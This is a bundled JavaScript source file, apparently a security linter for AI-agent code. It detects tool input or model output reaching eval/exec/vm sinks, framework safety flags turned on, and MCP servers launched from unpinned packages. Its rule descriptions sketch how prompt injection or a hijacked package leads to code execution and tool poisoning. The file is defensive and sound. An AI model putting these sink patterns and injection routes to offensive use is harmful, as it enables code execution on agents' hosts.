	return analysePython(helper.module.tree, registrations.get(helper.module.file.path)).tools.some((tool) => tool.node.id === helper.fn.id);
}
var resolvedCalls = /* @__PURE__ */ new WeakMap();
/** `calledFunction`, memoised per call: the four injection rules ask about the same calls. */
function helperOf(modules, module, analysis, call) {
	let byCall = resolvedCalls.get(module.tree);
	if (!byCall) resolvedCalls.set(module.tree, byCall = /* @__PURE__ */ new Map());
	let helper = byCall.get(call.id);
	if (!helper) byCall.set(call.id, helper = calledFunction(modules, module, analysis.imports, call));
	return helper;
}
/** Tool input that reaches a sink through one helper call, in every tool of the file. */
async function pythonHelperFlows(modules, module, analysis, spec) {
	const flows = [];
	for (const tool of analysis.tools) for (const call of callsIn(tool.node)) {
		const helper = await helperOf(modules, module, analysis, call);
		if (!helper || helper.fn.id === tool.node.id) continue;
		const summary = helperSummary$1(helper, spec);
		if (summary.size === 0 || await isToolItself$1(helper, modules, module, analysis)) continue;
		const scoped = analysis.taintFor(call, spec.taint);
		if (!scoped) continue;
		for (const { param, argument } of argumentBindings(call, helper.fn)) {
			const sink = summary.get(param);
			if (!sink || !scoped.taint.isTainted(argument)) continue;
			const line = sink.call.startPosition.row + 1;
			const where = helper.module.file.path === module.file.path ? `line ${line}` : `${helper.module.file.path}:${line}`;
			flows.push({
				call,
				tool,
				helper: calleeText(call),
				param,
				names: scoped.taint.taintedNames(argument),
				sink,
				where
			});
			break;
		}
	}
	return flows;
}
// src/rules/security/support/ts-modules.ts
/**
* TypeScript/JavaScript imports resolved to the agent's own files: `import { runCommand } from './lib/shell.js'`
* in `src/tools.ts` is `src/lib/shell.ts`'s `runCommand`. Only relative specifiers are followed (package
* names and path aliases are left alone), the way Node and TypeScript's bundler resolution try extensions.
*/
var EXTENSIONS = [
	".ts",
	".tsx",
	".mts",
	".cts",
	".js",
	".jsx",
	".mjs",
	".cjs"
];
function resolveTsImport(paths, fromPath, specifier) {
	if (!specifier.startsWith("./") && !specifier.startsWith("../")) return void 0;
	const base = path.posix.normalize(path.posix.join(path.posix.dirname(fromPath), specifier));
	if (base.startsWith("../")) return void 0;
	const stem = base.replace(/\.(m|c)?jsx?$/, "");
	return [
		base,
		...EXTENSIONS.map((extension) => `${stem}${extension}`),
		...EXTENSIONS.map((extension) => `${base}/index${extension}`)
	].find((candidate) => paths.has(candidate));
}
var topLevelMemo = /* @__PURE__ */ new WeakMap();
/** A top-level `function name`, or `const name = (...) => ...` / `function (...)`, exported or not (memoised per tree). */
function topLevelTsFunction(root, name) {
	let byName = topLevelMemo.get(root.tree);
	if (!byName) topLevelMemo.set(root.tree, byName = /* @__PURE__ */ new Map());
	if (!byName.has(name)) byName.set(name, findTopLevelTsFunction(root, name));
	return byName.get(name);
}
function findTopLevelTsFunction(root, name) {
	for (const statement of root.namedChildren) {
		const declaration = statement.type === "export_statement" ? statement.childForFieldName("declaration") ?? void 0 : statement;
		if (!declaration) continue;
		if ((declaration.type === "function_declaration" || declaration.type === "generator_function_declaration") && declaration.childForFieldName("name")?.text === name) return declaration;
		if (declaration.type === "lexical_declaration" || declaration.type === "variable_declaration") for (const declarator of declaration.namedChildren) {
			if (declarator.type !== "variable_declarator" || declarator.childForFieldName("name")?.text !== name) continue;
			const value = declarator.childForFieldName("value") ?? void 0;
			if (isFunctionNode(value)) return value;
		}
	}
}
/** `name` exported by the module at `modulePath`, following `export { x } from`, `export * from` and import-then-export a few steps. */
async function findTsFunction(modules, modulePath, name, depth = 0) {
	const module = await modules.module(modulePath);
	if (!module) return void 0;
	const root = module.tree.rootNode;
	const fn = topLevelTsFunction(root, name);
	if (fn) return {
		module,
		fn,
		name
	};
	if (depth >= 3) return void 0;
	for (const statement of root.namedChildren) {
		if (statement.type !== "export_statement") continue;
		const source = statement.childForFieldName("source");
		if (!source) continue;
		const target = resolveTsImport(modules.paths, modulePath, source.text.slice(1, -1));
		if (!target) continue;
		const clause = statement.namedChildren.find((child) => child.type === "export_clause");
		if (!clause) {
			const found = await findTsFunction(modules, target, name, depth + 1);
			if (found) return found;
			continue;
		}
		for (const specifier of clause.namedChildren) {
			const exported = (specifier.childForFieldName("alias") ?? specifier.childForFieldName("name"))?.text;
			const original = specifier.childForFieldName("name")?.text;
			if (exported === name && original) return findTsFunction(modules, target, original, depth + 1);
		}
	}
	const imported = tsImportMap(module.tree).get(name);
	return imported ? functionAtImport(modules, modulePath, imported, void 0, depth + 1) : void 0;
}
async function functionAtImport(modules, fromPath, target, member, depth = 0) {
	const [specifier, exported] = target.split("#");
	if (!specifier || !exported) return void 0;
	const resolved = resolveTsImport(modules.paths, fromPath, specifier);
	if (!resolved) return void 0;
	if (exported === "*") return member ? findTsFunction(modules, resolved, member, depth) : void 0;
	if (exported === "default" || member) return void 0;
	return findTsFunction(modules, resolved, exported, depth);
}
/**
* The agent function a call invokes: `runCommand(x)` through a named import of a relative module or a
* top-level function of the same file, or `shell.run(x)` through `import * as shell from './shell'`.
*/
async function calledTsFunction(modules, module, imports, call) {
	if (call.type !== "call_expression") return void 0;
	const callee = call.childForFieldName("function");
	if (callee?.type === "identifier") {
		const target = imports.get(callee.text);
		if (target) return functionAtImport(modules, module.file.path, target, void 0);
		const fn = topLevelTsFunction(module.tree.rootNode, callee.text);
		return fn ? {
			module,
			fn,
			name: callee.text
		} : void 0;
	}
	if (callee?.type === "member_expression") {
		const object = callee.childForFieldName("object");
		const property = callee.childForFieldName("property");
		const target = object?.type === "identifier" ? imports.get(object.text) : void 0;
		if (target?.endsWith("#*") && property) return functionAtImport(modules, module.file.path, target, property.text);
	}
}
// src/rules/security/support/ts-helper-calls.ts
/** Text that can create a tool in a TS/JS file: the AI SDK, OpenAI Agents, Mastra and LangChain.js factories. */
var TS_TOOL_TEXT = /\b(tool|dynamicTool|createTool|DynamicStructuredTool|DynamicTool)\b/;
async function tsAnalysisInAgent(context) {
	const tree = await context.tree();
	if (!tree) return void 0;
	return {
		analysis: analyseTs(tree, context.file.text),
		modules: agentModules(context),
		module: {
			file: context.file,
			tree
		}
	};
}
/** Calls directly in `scope` (not in a nested function). */
function tsCallsIn(scope) {
	return callExpressions(scope).filter((call) => {
		for (let current = call.parent; current; current = current.parent) {
			if (current.id === scope.id) return true;
			if (isFunctionNode(current)) return false;
		}
		return false;
	});
}
/** Each parameter's bound names, in order; a rest parameter ends the positional list. */
function parameterSlots(fn) {
	const parameters = fn.childForFieldName("parameters");
	const single = fn.childForFieldName("parameter");
	const list = parameters ? parameters.namedChildren.filter((child) => child.type !== "comment") : single ? [single] : [];
	const slots = [];
	for (const parameter of list) {
		const pattern = parameter.type === "identifier" ? parameter : parameter.childForFieldName("pattern");
		if (!pattern || pattern.type === "rest_pattern") break;
		const names = patternNames(pattern);
		if (names.length > 0) slots.push({
			label: pattern.type === "identifier" ? pattern.text : `{ ${names.join(", ")} }`,
			names
		});
	}
	return slots;
}
var summaries = /* @__PURE__ */ new WeakMap();
/** Parameter position → the first sink it reaches on its own. */
function helperSummary(helper, spec) {
	return memoisedHelperSummary(summaries, helper, spec, (summary) => {
		const calls = tsCallsIn(helper.fn);
		parameterSlots(helper.fn).slice(0, 8).forEach((slot, position) => {
			const hit = spec.sinks(calls, new TsTaint(helper.fn, slot.names, spec.taint), helper.module, helper.fn)[0];
			if (hit) summary.set(position, {
				label: slot.label,
				sink: hit
			});
		});
	});
}
async function isToolItself(helper, current, analysis) {
	return (helper.module.file.path === current.file.path ? analysis.tools : analyseTs(helper.module.tree, helper.module.file.text).tools).some((tool) => tool.node.id === helper.fn.id);
}
async function tsHelperFlows(modules, module, analysis, spec) {
	const flows = [];
	for (const tool of analysis.tools) for (const call of tsCallsIn(tool.node)) {
		const helper = await calledTsFunction(modules, module, analysis.imports, call);
		if (!helper || helper.fn.id === tool.node.id) continue;
		const summary = helperSummary(helper, spec);
		if (summary.size === 0 || await isToolItself(helper, module, analysis)) continue;
		const scoped = analysis.taintFor(call, spec.taint);
		if (!scoped) continue;
		const args = (call.childForFieldName("arguments")?.namedChildren ?? []).filter((child) => child.type !== "comment");
		for (const [position, argument] of args.entries()) {
			if (argument.type === "spread_element") break;
			const entry = summary.get(position);
			if (!entry || !scoped.taint.isTainted(argument)) continue;
			const line = entry.sink.call.startPosition.row + 1;
			const where = helper.module.file.path === module.file.path ? `line ${line}` : `${helper.module.file.path}:${line}`;
			flows.push({
				call,
				tool,
				helper: tsCalleeText(call),
				param: entry.label,
				names: scoped.taint.taintedNames(argument),
				sink: entry.sink,
				where
			});
			break;
		}
	}
	return flows;
}
// src/rules/security/support/sink-rule.ts
var PYTHON = {
	mayHoldTools: pythonMayHoldTools,
	analysisInAgent: pythonAnalysisInAgent,
	calls,
	helperFlows: pythonHelperFlows
};
var TYPESCRIPT = {
	mayHoldTools: (context) => TS_TOOL_TEXT.test(context.file.text),
	analysisInAgent: tsAnalysisInAgent,
	calls: callExpressions,
	helperFlows: tsHelperFlows
};
/**
* A tool-input sink rule (code execution, shell, SQL, SSRF): every one reads the same tool declarations of the
* same frameworks, in Python and TS/JS, through the run below.
*/
function defineSinkRule(meta, sides) {
	return defineRule({
		...meta,
		knows: TOOL_DECLARATIONS_KNOWN,
		frameworks: TOOL_FRAMEWORKS
	}, {
		appliesTo: (file) => PY_OR_TS(file.language),
		run: (context) => context.file.language === "python" ? runSinkSide(context, sides.python, PYTHON) : runSinkSide(context, sides.ts, TYPESCRIPT)
	});
}
/**
* The run every tool-input sink rule shares: cheap text tests first, the agent's cross-module analysis only
* when this module may hold a sink or a tool, then the module's own sinks and the sinks one helper call away.
*/
async function runSinkSide(context, side, language) {
	const hasSinks = side.sinkText.test(context.file.text);
	if (!hasSinks && !await language.mayHoldTools(context)) return;
	const scope = await language.analysisInAgent(context);
	if (!scope || side.needsOwnTool && scope.analysis.tools.length === 0) return;
	if (hasSinks) for (const call of language.calls(scope.module.tree)) {
		const finding = side.direct(call, scope);
		if (finding) context.report({
			start: call.startIndex,
			end: call.endIndex,
			...finding
		});
	}
	for (const flow of await language.helperFlows(scope.modules, scope.module, scope.analysis, side.helper)) {
		const finding = side.helperReport(flow);
		if (finding) context.report(finding);
	}
}
/**
* One language side of a rule whose sinks take tool input and model output alike: a call of the module is a finding
* when either reaches one of its `args`, and a helper's call is a sink when the helper's parameter does. One `find`
* serves both, so the module's own sinks and the helpers' never disagree.
*/
function originSinkSide(side) {
	return {
		sinkText: side.sinkText,
		direct(call, { analysis, module }) {
			const sink = side.find(call, module);
			if (!sink) return void 0;
			for (const arg of sink.args) {
				const origin = analysis.origin(arg, {
					modelOutput: true,
					taint: side.taint
				});
				if (origin) return originFinding(origin, sink);
			}
		},
		helper: {
			key: side.key,
			taint: side.taint,
			mayHaveSink: side.helperText ?? side.sinkText,
			sinks: (calls, taint, module) => calls.flatMap((call) => {
				const sink = side.find(call, module);
				return sink && sink.args.some((arg) => taint.isTainted(arg)) ? [{
					call,
					label: sink.label
				}] : [];
			})
		},
		helperReport: side.helperReport
	};
}
// src/rules/security/code-exec-from-input.ts
var PY_SINKS = /* @__PURE__ */ new Set([
	"eval",
	"exec",
	"compile",
	"builtins.eval",
	"builtins.exec",
	"builtins.compile"
]);
var VM_FUNCTIONS = /* @__PURE__ */ new Set([
	"runInNewContext",
	"runInThisContext",
	"runInContext",
	"compileFunction"
]);
var TS_CODE_TEXT = /\beval\s*\(|\bFunction\s*\(|\brunIn\w*Context|\bcompileFunction|\bScript\s*\(/;
var vmMemo = /* @__PURE__ */ new WeakMap();
/** An eval / Function / node:vm call of the module and the arguments that carry code. */
function tsCodeSink(call, module) {
	const root = module.tree.rootNode;
	const imports = tsImportMap(module.tree);
	let vm = vmMemo.get(module.tree);
	if (!vm) vmMemo.set(module.tree, vm = nodeModuleBindings(root, imports, "vm"));
	const sink = tsSink(call, vm, (name) => tsShadows(root, imports, name));
	if (!sink) return void 0;
	const args = tsArguments(call);
	return {
		label: sink.label,
		key: sink.label,
		risk: `${sink.why}, so text the model controls runs as code in the server process.`,
		args: sink.allArgs ? args : args.slice(0, 1)
	};
}
var TS_SINKS$1 = originSinkSide({
	key: "security/code-exec-from-input",
	sinkText: TS_CODE_TEXT,
	find: tsCodeSink,
	helperReport: (flow) => helperFlowReport(flow, {
		tool: flow.tool.via,
		param: flow.param,
		reaches: "to",
		tail: ", so text the model controls runs as code in the server process."
	})
});
var PY_CODE_TEXT = /\b(eval|exec|compile)\s*\(/;
/** Characters that cannot spell a name, a string or an attribute: text made of them is arithmetic. */
var ARITHMETIC_ONLY = /^[0-9\s.+\-*/%()]*$/;
/**
* `''.join(c for c in expr if c in ALLOWED)` with ALLOWED made of digits, operators and brackets: only arithmetic survives the filter, so
* what reaches eval holds no names, calls or strings. The allowed set may be a literal or a name assigned one.
*/
function keepsOnlyArithmetic(call) {
	if (!/\.join$/.test(calleeText(call))) return false;
	const args = call.childForFieldName("arguments");
	const comprehension = args?.type === "generator_expression" ? args : args?.namedChildren[0];
	if (comprehension?.type !== "generator_expression" && comprehension?.type !== "list_comprehension") return false;
	const element = comprehension.namedChildren[0];
	const test = comprehension.namedChildren.find((child) => child.type === "if_clause")?.namedChildren[0];
	if (element?.type !== "identifier" || test?.type !== "comparison_operator") return false;
	const [left, allowed] = test.namedChildren;
	if (left?.text !== element.text || !allowed || !/^\s*\w+\s+in\s/.test(test.text)) return false;
	const value = stringValue(allowed) ?? (allowed.type === "identifier" ? assignedString(allowed) : void 0);
	return value !== void 0 && ARITHMETIC_ONLY.test(value);
}
/** The string literal last assigned to `name` in its function, or at module level. */
function assignedString(name) {
	const scopes = [enclosingFunction(name), name.tree.rootNode].filter((scope) => !!scope);
	for (const scope of scopes) {
		let found;
		for (const assignment of scope.descendantsOfType("assignment")) {
			if (assignment.startIndex > name.startIndex && scope.type !== "module") break;
			if (assignment.childForFieldName("left")?.text === name.text) found = stringValue(assignment.childForFieldName("right") ?? void 0) ?? found;
		}
		if (found !== void 0) return found;
	}
}
var PY_TAINT = { cleanCall: {
	key: "arithmetic-only",
	test: keepsOnlyArithmetic
} };
function pythonRisk(callee) {
	return `Python's ${callee} has no sandbox, so text the model controls runs as code with the agent's privileges.`;
}
/** A builtin eval/exec/compile call (not a local function of that name) and the argument that carries the code. */
function pythonCodeSink(call, imports) {
	const callee = calleeText(call);
	if (!PY_SINKS.has(callee)) return void 0;
	const head = callee.split(".")[0];
	if (callee.includes(".") ? !imports.has(head) || isLocallyBound(call, head) : pythonShadows(call.tree.rootNode, imports, callee) || isLocallyBound(call, callee)) return void 0;
	if (callee.endsWith("compile") && call.parent?.type === "argument_list" && /^(builtins\.)?(eval|exec)$/.test(calleeText(call.parent.parent))) return void 0;
	const code = keywordArgument(call, "source") ?? positionalArguments(call)[0];
	return code ? {
		label: `${callee}(...)`,
		key: callee,
		risk: pythonRisk(callee),
		args: [code]
	} : void 0;
}
/** The sinks of the module, and the same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
var PYTHON_SINKS$1 = originSinkSide({
	key: "security/code-exec-from-input",
	sinkText: PY_CODE_TEXT,
	taint: PY_TAINT,
	find: (call, module) => pythonCodeSink(call, pythonImportMap(module.tree)),
	helperReport: (flow) => helperFlowReport(flow, {
		tool: `${flow.tool.name} (${flow.tool.via})`,
		param: `'${flow.param}'`,
		reaches: "to",
		tail: `; ${pythonRisk(flow.sink.label.replace("(...)", ""))}`
	})
});
function tsSink(call, vm, shadowed) {
	const isNew = call.type === "new_expression";
	const callee = tsCalleeText(call);
	if (!isNew && callee === "eval" && !shadowed("eval")) return {
		label: "eval(...)",
		why: "eval runs with full access to the module scope",
		allArgs: false
	};
	if ((callee === "Function" || callee === "globalThis.Function") && !shadowed("Function")) return {
		label: "new Function(...)",
		why: "the Function constructor compiles its arguments as JavaScript",
		allArgs: true
	};
	const [head, member] = callee.split(".");
	const vmFunction = member !== void 0 && head !== void 0 && vm.namespaces.has(head) ? member : vm.named.get(callee);
	if (vmFunction && (VM_FUNCTIONS.has(vmFunction) || isNew && vmFunction === "Script")) return {
		label: `vm.${vmFunction}(...)`,
		why: "node:vm is not a security boundary (its own docs say so)",
		allArgs: false
	};
}
var codeExecFromInputCheck = defineSinkRule({
	id: "security/code-exec-from-input",
	title: "Tool input or model output reaches eval/exec",
	description: "A tool function (LangChain/CrewAI/smolagents @tool, OpenAI Agents @function_tool, Pydantic AI @agent.tool, ADK tools=[...], AI SDK/OpenAI Agents/Mastra tool execute) or a model response feeds eval, exec, compile, new Function or node:vm. The model picks tool arguments, so one prompt injection (a poisoned web page, email or document) becomes arbitrary code running with the agent's privileges. " + HELPER_HOP_SENTENCE,
	persona: "secops",
	category: "security",
	severity: "error",
	fixability: "structural",
	tags: [
		"security",
		"CWE-94",
		"CWE-95",
		"LLM05:2025",
		"ASI05"
	],
	remediation: "Do not evaluate model-chosen text. Parse data with json.loads / ast.literal_eval / JSON.parse, map the input to a fixed set of operations, or run generated code in a real sandbox (ADK BuiltInCodeExecutor/VertexAiCodeExecutor, smolagents executor_type=\"e2b\"/\"docker\", a container or microVM) with no credentials.",
	docs: "https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/",
	precision: "high",
	securitySeverity: 9.8
}, {
	python: PYTHON_SINKS$1,
	ts: TS_SINKS$1
});
// src/rules/security/dangerous-framework-flag.ts
/** Each flag is off by default in its framework; turning it on is an explicit opt-in to running or loading untrusted code. */
var FLAGS = {
	allow_dangerous_code: {
		what: "lets the LangChain agent run model-written Python on the host (the default False refuses)",
		cwe: "CWE-94"
	},
	allow_dangerous_deserialization: {
		what: "unpickles the index file, so whoever can write it runs code on load (the default False refuses pickle)",
		cwe: "CWE-502"
	},
	allow_dangerous_requests: {
		what: "lets the model send arbitrary HTTP requests, including to internal hosts (the default False refuses)",
		cwe: "CWE-918"
	},
	trust_remote_code: {
		what: "executes Python shipped in the model repository on load (the default False refuses)",
		cwe: "CWE-94"
	}
};
var FLAG_PATTERN = /\b(allow_dangerous_code|allow_dangerous_deserialization|allow_dangerous_requests|trust_remote_code)\b/;
/** A full commit sha pins the remote code to a reviewed revision: the fix Hugging Face recommends. */
var COMMIT_SHA = /^[0-9a-f]{40}$/;
var dangerousFrameworkFlagCheck = defineRule({
	id: "security/dangerous-framework-flag",
	title: "Framework safety flag turned off",
	description: "A framework opt-in that disables its own protection is set to True: allow_dangerous_code (LangChain pandas/Python agents), allow_dangerous_deserialization (FAISS.load_local and other pickle loaders), allow_dangerous_requests (requests toolkit) or trust_remote_code (transformers/Hugging Face). Each is off by default because it hands code execution or network reach to the model or to whoever controls the artefact.",
	persona: "secops",
	category: "security",
	severity: "error",
	fixability: "structural",
	tags: [
		"security",
		"CWE-94",
		"CWE-502",
		"ASI05",
		"LLM03:2025"
	],
	remediation: "Do not just flip the flag: with False the framework refuses (create_pandas_dataframe_agent, FAISS.load_local and RequestsToolkit raise ValueError), so the agent stops working. Change the design instead: answer data questions with fixed, reviewed query tools instead of a Python REPL agent, or run the code-executing agent in a sandbox (container/microVM without credentials or network); load only indexes you built, from storage only you can write, or switch to a store that does not pickle; give the requests toolkit an allow-list of hosts behind an egress proxy; pin trust_remote_code models with revision=\"<commit sha>\" after reviewing the code, or use a model that needs no custom code.",
	docs: "https://python.langchain.com/docs/security/",
	frameworks: ["langchain", "huggingface"],
	precision: "very-high",
	securitySeverity: 8.8
}, {
	appliesTo: (file) => file.language === "python",
	textHas: [FLAG_PATTERN],
	async runOnTree(context, tree) {
		for (const node of tree.rootNode.descendantsOfType(["keyword_argument", "pair"])) {
			const key = node.type === "keyword_argument" ? node.childForFieldName("name")?.text : stringValue(node.childForFieldName("key") ?? void 0);
			const flag = key ? FLAGS[key] : void 0;
			if (!key || !flag || node.childForFieldName("value")?.text !== "True") continue;
			const call = owningCall(node);
			if (key === "trust_remote_code" && call && COMMIT_SHA.test(stringValue(keywordArgument(call, "revision")) ?? "")) continue;
			const where = call ? `${calleeText(call)}(..., ${key}=True)` : `${key}=True`;
			context.report({
				...spanOf(node),
				message: `${where} ${flag.what}; setting it to False makes the call refuse, so sandbox or redesign the capability.`,
				fingerprintContent: `${call ? calleeText(call) : ""}|${key}`
			});
		}
	}
});
/** The call this argument (or kwargs dict entry) belongs to. */
function owningCall(node) {
	for (let current = node.parent; current; current = current.parent) {
		if (current.type === "call") return current;
		if (![
			"argument_list",
			"dictionary",
			"keyword_argument"
		].includes(current.type)) return void 0;
	}
}
// src/rules/security/support/package-pin.ts
var SCRIPT_RUNNERS = /* @__PURE__ */ new Set([
	"tsx",
	"ts-node",
	"node",
	"vite-node",
	"esno",
	"esrun"
]);
var NPX_VALUE_FLAGS = /* @__PURE__ */ new Set([
	"-p",
	"--package",
	"--cache",
	"--registry",
	"--userconfig",
	"-c",
	"--call"
]);
var UVX_VALUE_FLAGS = /* @__PURE__ */ new Set([
	"--with",
	"--python",
	"-p",
	"--index",
	"--index-url",
	"--extra-index-url",
	"--with-requirements",
	"--constraint",
	"-c",
	"--directory",
	"--env-file"
]);
var DOCKER_VALUE_FLAGS = /* @__PURE__ */ new Set([
	"-e",
	"--env",
	"-v",
	"--volume",
	"--name",
	"--network",
	"--net",
	"-p",
	"--publish",
	"--mount",
	"-w",
	"--workdir",
	"-u",
	"--user",
	"--entrypoint",
	"--env-file",
	"-l",
	"--label",
	"--platform",
	"--pull",
	"--cpus",
	"-m",
	"--memory",
	"--add-host",
	"--cap-add",
	"--cap-drop",
	"--security-opt",
	"--tmpfs",
	"--ulimit",
	"--device",
	"--hostname",
	"-h",
	"--ipc",
	"--log-driver",
	"--restart",
	"--runtime",
	"--shm-size",
	"--gpus",
	"--init-path",
	"--pid"
]);
function baseCommand(command) {
	return command.split(/[\\/]/).pop()?.replace(/\.(cmd|exe)$/i, "") ?? command;
}
function isLocal(spec) {
	return /^(\.{1,2}\/|\/|~|file:|[A-Za-z]:\\)/.test(spec) || spec.endsWith(".js") || spec.endsWith(".py") || spec.endsWith(".tgz");
}
/** `pkg@1.2.3`, `@scope/pkg@1.2.3` → pinned; `pkg`, `@scope/pkg`, `pkg@latest`, `pkg@^1` → not. */
function npmPinned(spec) {
	const at = spec.lastIndexOf("@");
	if (at <= 0) return /^(git\+|https?:|github:)/.test(spec) && /#[0-9a-f]{7,40}$/.test(spec);
	const version = spec.slice(at + 1);
	return /^v?\d+\.\d+\.\d+([-+].*)?$/.test(version);
}
function pypiPinned(spec) {
	if (/==\s*\d/.test(spec)) return true;
	const at = spec.lastIndexOf("@");
	if (at > 0) {
		const version = spec.slice(at + 1);
		return version !== "latest" && /^(v?\d+(\.\d+)*|[0-9a-f]{7,40})$/.test(version);
	}
	return false;
}
function imagePinned(image) {
	if (image.includes("@sha256:")) return true;
	const lastSegment = image.split("/").pop() ?? image;
	const colon = lastSegment.indexOf(":");
	if (colon < 0) return false;
	return lastSegment.slice(colon + 1) !== "latest";
}
function unpinnedLaunch(command, args) {
	let launcher = baseCommand(command);
	let rest = [...args];
	let offset = 0;
	if ((launcher === "pnpm" || launcher === "yarn") && rest[0] === "dlx") {
		launcher = "npx";
		rest = rest.slice(1);
		offset = 1;
	} else if (launcher === "bunx" || launcher === "bun" && rest[0] === "x") {
		if (launcher === "bun") {
			rest = rest.slice(1);
			offset = 1;
		}
		launcher = "npx";
	} else if (launcher === "uv" && rest[0] === "tool" && rest[1] === "run") {
		launcher = "uvx";
		rest = rest.slice(2);
		offset = 2;
	}
	if (launcher === "npx") {
		for (let i = 0; i < rest.length; i++) {
			const arg = rest[i];
			if (arg === "-p" || arg === "--package") {
				const spec = rest[i + 1];
				if (spec && !isLocal(spec) && !npmPinned(spec)) return {
					spec,
					index: i + 1 + offset,
					launcher: "npx",
					fix: `${spec}@<version>`
				};
				return;
			}
			if (arg.startsWith("--package=")) {
				const spec = arg.slice(10);
				return !isLocal(spec) && !npmPinned(spec) ? {
					spec,
					index: i + offset,
					launcher: "npx",
					fix: `${spec}@<version>`
				} : void 0;
			}
			if (NPX_VALUE_FLAGS.has(arg)) {
				i++;
				continue;
			}
			if (arg.startsWith("-")) continue;
			if (isLocal(arg) || npmPinned(arg) || SCRIPT_RUNNERS.has(arg)) return void 0;
			return {
				spec: arg,
				index: i + offset,
				launcher: "npx",
				fix: `${arg.replace(/@[^@/]*$/, "")}@<version>`
			};
		}
		return;
	}
	if (launcher === "uvx" || launcher === "pipx") {
		if (launcher === "pipx") {
			if (rest[0] !== "run") return void 0;
			rest = rest.slice(1);
			offset += 1;
		}
		for (let i = 0; i < rest.length; i++) {
			const arg = rest[i];
			if (arg === "--from" || arg === "--spec") {
				const spec = rest[i + 1];
				if (spec && !isLocal(spec) && !pypiPinned(spec)) return {
					spec,
					index: i + 1 + offset,
					launcher,
					fix: `${spec}==<version>`
				};
				return;
			}
			if (UVX_VALUE_FLAGS.has(arg)) {
				i++;
				continue;
			}
			if (arg.startsWith("-")) continue;
			if (isLocal(arg) || pypiPinned(arg)) return void 0;
			return {
				spec: arg,
				index: i + offset,
				launcher,
				fix: `${arg.replace(/@latest$/, "")}==<version>`
			};
		}
		return;
	}
	if ((launcher === "docker" || launcher === "podman") && rest[0] === "run") for (let i = 1; i < rest.length; i++) {
		const arg = rest[i];
		if (DOCKER_VALUE_FLAGS.has(arg)) {
			i++;
			continue;
		}
		if (arg.startsWith("-")) continue;
		if (imagePinned(arg)) return void 0;
		return {
			spec: arg,
			index: i + offset,
			launcher: `${launcher} run`,
			fix: `${arg.replace(/:latest$/, "")}@sha256:<digest>`
		};
	}
}
/** `npx -y pkg` as one string (OpenAI Agents JS `fullCommand`). */
function splitCommandLine(line) {
	const parts = line.trim().split(/\s+/).filter(Boolean);
	const command = parts.shift();
	return command ? {
		command,
		args: parts
	} : void 0;
}
function unpinnedMessage(unpinned, where) {
	return `${where} launches ${unpinned.launcher} '${unpinned.spec}' without a pinned version, so every start runs whatever was last published under that name with the agent's credentials; pin it (${unpinned.fix}).`;
}
// src/rules/security/mcp-unpinned-server.ts
var CONFIG_FILES = /* @__PURE__ */ new Set([
	"mcp.json",
	".mcp.json",
	"claude_desktop_config.json",
	"mcp_config.json",
	"mcp_settings.json"
]);
var LAUNCHERS = /\b(npx|uvx|docker|podman|bunx|pnpm|yarn|pipx|uv|bun)\b/;
function baseName(path) {
	return path.split("/").pop() ?? path;
}
var mcpUnpinnedServerCheck = defineRule({
	id: "security/mcp-unpinned-server",
	title: "MCP server launched from an unpinned package",
	description: "A stdio MCP server is started with npx/uvx/docker run from a package or image without an exact version (`npx -y @scope/server`, `uvx server`, `image:latest`). The launcher fetches whatever was last published under that name on every start and runs it with the agent's environment and credentials, and its tool descriptions go straight into the model's context: a hijacked or typosquatted release becomes code execution and tool poisoning.",
	persona: "secops",
	category: "security",
	severity: "warning",
	fixability: "structural",
	tags: [
		"security",
		"CWE-1104",
		"CWE-829",
		"LLM03:2025",
		"ASI04"
	],
	remediation: "Pin the server: `npx -y @scope/server@1.4.2`, `uvx server==1.4.2` (or `uvx --from server==1.4.2 server`), `docker run image@sha256:<digest>`; update the pin deliberately after reviewing the release. The cockpit does not heal this: the right version or digest is the one you reviewed, which it cannot know offline, so a person picks and writes the pin.",
	docs: "https://modelcontextprotocol.io/specification/2025-06-18/basic/security_best_practices",
	frameworks: [
		"mcp",
		"openai-agents",
		"google-adk",
		"langchain",
		"mastra",
		"vercel-ai-sdk"
	],
	precision: "high",
	securitySeverity: 6.5
}, {
	appliesTo: (file) => file.language !== "other" || CONFIG_FILES.has(baseName(file.path)),
	textHas: [LAUNCHERS],
	async run(context) {
		const { file } = context;
		if (file.language === "other") {
			await scanConfig(file.text, context.report);
			return;
		}
		if (!/mcp|stdio/i.test(file.text)) return;
		const tree = await context.tree();
		if (!tree) return;
		if (file.language === "python") scanPython(tree.rootNode, context.report);
		else scanTs(tree.rootNode, context.report);
	}
});
function report(report, where, command, args, fallback) {
	const unpinned = unpinnedLaunch(command, args.map((arg) => arg.value));
	if (!unpinned) return;
	const at = args[unpinned.index]?.node ?? fallback;
	report({
		start: at.start,
		end: at.end,
		message: unpinnedMessage(unpinned, where),
		fingerprintContent: `${unpinned.launcher}|${unpinned.spec}`
	});
}
/** `StdioServerParameters(command="npx", args=[...])`, and `{"command": "npx", "args": [...]}` dicts (MCPServerStdio params, MultiServerMCPClient). */
function scanPython(root, sink) {
	for (const call of root.descendantsOfType("call")) {
		const command = stringValue(keywordArgument(call, "command"));
		if (!command) continue;
		const argsNode = keywordArgument(call, "args");
		pythonLaunch(sink, `${calleeText(call)}(command="${command}")`, command, argsNode, call);
	}
	for (const dict of root.descendantsOfType("dictionary")) {
		const command = stringValue(dictValue(dict, "command"));
		if (!command) continue;
		pythonLaunch(sink, `MCP server config {"command": "${command}"}`, command, dictValue(dict, "args"), dict);
	}
}
function pythonLaunch(sink, where, command, argsNode, owner) {
	if (argsNode && argsNode.type !== "list") return;
	const items = argsNode?.namedChildren ?? [];
	const values = items.map((item) => stringValue(item));
	if (values.some((value) => value === void 0)) return;
	if (!argsNode) {
		const split = splitCommandLine(command);
		if (split && split.args.length > 0) report(sink, where, split.command, split.args.map((value) => ({
			value,
			node: spanOf(owner)
		})), spanOf(owner));
		return;
	}
	report(sink, where, command, items.map((item, index) => ({
		value: values[index],
		node: spanOf(item)
	})), spanOf(owner));
}
/** `new StdioClientTransport({ command, args })`, `new MCPServerStdio({ fullCommand })`, Mastra `servers: { x: { command, args } }`. */
function scanTs(root, sink) {
	for (const object of root.descendantsOfType("object")) {
		const fullCommand = tsStringValue(objectProperty(object, "fullCommand"));
		if (fullCommand) {
			const split = splitCommandLine(fullCommand);
			const node = objectProperty(object, "fullCommand");
			if (split) report(sink, `MCP server fullCommand '${split.command} ...'`, split.command, split.args.map((value) => ({
				value,
				node: spanOf(node)
			})), spanOf(node));
			continue;
		}
		const command = tsStringValue(objectProperty(object, "command"));
